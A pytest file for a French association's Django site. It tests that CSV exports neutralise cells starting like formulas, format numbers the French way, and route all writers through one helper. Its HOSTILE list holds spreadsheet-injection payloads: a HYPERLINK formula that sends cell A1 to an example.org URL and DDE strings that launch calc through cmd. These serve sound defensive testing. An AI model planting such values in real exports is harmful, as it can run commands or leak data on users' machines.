"""Issue 9, §4: no CSV the site produces hands Excel a formula. Text cells that
start like a formula get a leading apostrophe (OWASP); numbers stay numbers,
written the French way."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from rfve_site.csv_export import cell, write_csv
from tests.factories import DuesCallFactory, LocalAuthorityFactory, MemberFactory

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Villeurbanne", "Villeurbanne"),
        ("Saint-Étienne = ville", "Saint-Étienne = ville"),
        ("", ""),
        (None, ""),
        (Decimal("1234.50"), "1234,50"),
        (Decimal("-12.50"), "-12,50"),  # a number, not a formula
        (-3, "-3"),
        (2027, "2027"),
        (dt.date(2027, 3, 31), "31/03/2027"),
    ],
)
def test_other_cells(value, expected):
    assert cell(value) == expected


def test_file_for_french_excel():
    out = io.StringIO(newline="")
    write_csv(out, ["Ville", "Montant (€)"], [["=1+1", Decimal("900.00")]])
    assert out.getvalue() == "\ufeffVille;Montant (€)\r\n'=1+1;900,00\r\n"


@pytest.mark.django_db
def test_treasury_csv_neutralises_what_the_secretariat_typed(admin_client):
    """A name and a SIRET as they may be saved (imported, typed before the
    validators existed) come out inert; amounts are still numbers."""
    member = MemberFactory(
        authority=LocalAuthorityFactory(name=HOSTILE[0]), siret="=1+1"
    )
    DuesCallFactory(member=member, amount=Decimal("900.00"))

    response = admin_client.get(
        reverse("admin:members_duescall_treasury_csv"), {"annee": 2027}
    )

    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][1] == "'" + HOSTILE[0]
    assert rows[1][3] == "'=1+1"
    assert rows[1][7:10] == ["900,00", "0,00", "900,00"]


def test_every_csv_writer_goes_through_the_helper():
    """Later exports (registrations…) must reuse rfve_site/csv_export.py. The
    commune reference file is data for the site itself, not for Excel."""
    allowed = {Path("rfve_site/csv_export.py"), Path("members/communes.py")}
    root = Path(settings.BASE_DIR)
    writers = {
        path.relative_to(root)
        for folder in ["rfve_site", "calendar_app", "members", "pages"]
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    }
    assert writers <= allowed
